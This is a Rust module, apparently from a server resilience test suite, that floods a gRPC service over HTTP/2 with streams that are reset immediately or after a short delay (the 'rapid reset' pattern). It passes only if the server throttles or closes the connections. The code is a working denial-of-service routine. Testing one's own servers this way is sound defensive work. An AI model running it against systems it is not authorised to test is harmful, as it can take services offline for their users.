//! Calls that are reset as soon as they are made, and calls that are reset while they are worked on.

use std::time::Duration;

use anyhow::{Result, ensure};
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use super::{Attack, Tally, add_up, all_closed, coded, write_and_listen};
use crate::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, Heard, call, frame, message, reset};

/// Connections at once, and calls on each.
const CONNECTIONS: usize = 8;
const CALLS: usize = 1250;
/// Calls that are let begin before they are reset: fewer than may be open.
const TOGETHER: usize = 80;
/// How long a connection is listened to.
const LISTEN: Duration = Duration::from_secs(2);

const ENHANCE_YOUR_CALM: u32 = 11;

pub(super) async fn run(attack: &Attack) -> Result<Tally> {
    let mut total = Tally::new();
    let mut sent = 0;
    while sent < attack.count && !attack.is_over() {
        let mut lines = JoinSet::new();
        for n in 0..CONNECTIONS {
            let Ok(line) = attack.begin(&[]).await else { continue };
            let calls = CALLS.min(attack.count);
            sent += calls;
            lines.spawn(async move {
                let (heard, closed) = if n.is_multiple_of(2) {
                    let bytes: Vec<u8> = ids(calls).flat_map(|id| [made(id), reset(id)].concat()).collect();
                    write_and_listen(line, &bytes, usize::MAX, Instant::now() + LISTEN).await
                } else {
                    late(line, calls).await
                };
                let how = if n.is_multiple_of(2) { "reset at once" } else { "reset late" };
                let calm = coded(&heard.goaways, ENHANCE_YOUR_CALM);
                vec![
                    ("connections", 1),
                    (how, calls),
                    ("closed by the server", usize::from(closed)),
                    ("told to calm down", calm),
                ]
            });
        }
        for (what, times) in add_up(lines).await? {
            *total.entry(what).or_default() += times;
        }
    }
    let calm = total.get("told to calm down").is_some_and(|&calm| calm > 0);
    ensure!(calm || all_closed(&total), "it all went through: {total:?}");
    Ok(total)
}

fn ids(calls: usize) -> impl Iterator<Item = u32> {
    (1..).step_by(2).take(calls)
}

/// A call that reads a page.
fn made(id: u32) -> Vec<u8> {
    let headers = frame(HEADERS, END_HEADERS, id, &call("/productpb.ProductService/List", &[]));
    [headers, frame(DATA, END_STREAM, id, &message(&[]))].concat()
}

/// Lets some calls begin, resets them, and so on.
async fn late(line: tokio_rustls::client::TlsStream<tokio::net::TcpStream>, calls: usize) -> (Heard, bool) {
    let (mut reader, mut writer) = tokio::io::split(line);
    let mut heard = Heard::default();
    let listening = async { while heard.next(&mut reader).await.unwrap_or(false) {} };
    let talking = async {
        let all: Vec<u32> = ids(calls).collect();
        for together in all.chunks(TOGETHER) {
            let begin: Vec<u8> = together
                .iter()
                .flat_map(|&id| frame(HEADERS, END_HEADERS, id, &call("/productpb.ProductService/List", &[])))
                .collect();
            let end: Vec<u8> = together.iter().flat_map(|&id| reset(id)).collect();
            if writer.write_all(&begin).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            sleep(Duration::from_millis(30)).await;
            if writer.write_all(&end).await.is_err() || writer.flush().await.is_err() {
                break;
            }
        }
        sleep(LISTEN).await;
    };
    let closed = tokio::select! {
        () = listening => true,
        () = talking => false,
    };
    (heard, closed)
}
